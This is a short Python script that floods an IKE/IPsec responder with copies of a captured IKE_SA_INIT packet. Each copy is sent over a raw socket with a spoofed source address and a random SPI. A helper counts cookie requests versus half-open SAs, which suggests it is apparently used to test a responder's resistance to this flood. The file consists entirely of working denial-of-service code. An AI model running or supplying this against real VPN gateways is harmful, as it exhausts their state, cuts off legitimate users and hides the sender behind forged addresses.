#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""IKE_SA_INIT of many who are not there: a real one under other addresses and SPIs, out of eth0.

usage: ike_flood.py <frame in hex> <how many> <a second>
"""
import os
import socket
import struct
import sys
import time

SOURCES = 0x64400001  # 100.64.0.1 and on
IP, UDP, IKE = 14, 34, 42  # where they begin: a header of IP without options
IKE_SA_INIT, COOKIE, SA, NOTIFY = 34, 16390, 33, 41


def is_first_message(frame):
    """IKE_SA_INIT of who calls: nobody has answered yet, and no cookie is in it."""
    return (len(frame) > IKE + 28 and frame[23] == 17 and frame[UDP + 2:UDP + 4] == b"\x01\xf4"
            and frame[IKE + 18] == IKE_SA_INIT and frame[IKE + 8:IKE + 16] == bytes(8) and frame[IKE + 16] != NOTIFY)


def answers(frames):
    """To spoofed callers: how many were asked for a cookie, and how many have a half-open IKE_SA now."""
    cookies = accepted = 0
    for frame in frames:
        if len(frame) > IKE + 36 and frame[23] == 17 and frame[30:32] == b"\x64\x40" and frame[IKE + 18] == IKE_SA_INIT:
            cookies += frame[IKE + 16] == NOTIFY and frame[IKE + 34:IKE + 36] == struct.pack("!H", COOKIE)
            accepted += frame[IKE + 16] == SA
    return cookies, accepted


def checksum(header):
    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def spoofed(frame, number, card):
    """Of a caller of its own, sent by this network card."""
    head = bytearray(frame[IP:UDP])
    head[10:12], head[12:16] = b"\0\0", struct.pack("!I", SOURCES + number)
    head[10:12] = struct.pack("!H", checksum(bytes(head)))
    return (frame[:6] + card + frame[12:IP] + bytes(head) + frame[UDP:UDP + 6] + b"\0\0" + os.urandom(8)
            + frame[IKE + 8:])


def main():
    frame, count, rate = bytes.fromhex(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind(("eth0", 0))
        card, began = wire.getsockname()[4], time.monotonic()
        for number in range(count):
            wire.send(spoofed(frame, number, card))
            time.sleep(max(0.0, began + number / rate - time.monotonic()))
    print(f"sent {count}", flush=True)


if __name__ == "__main__":
    main()
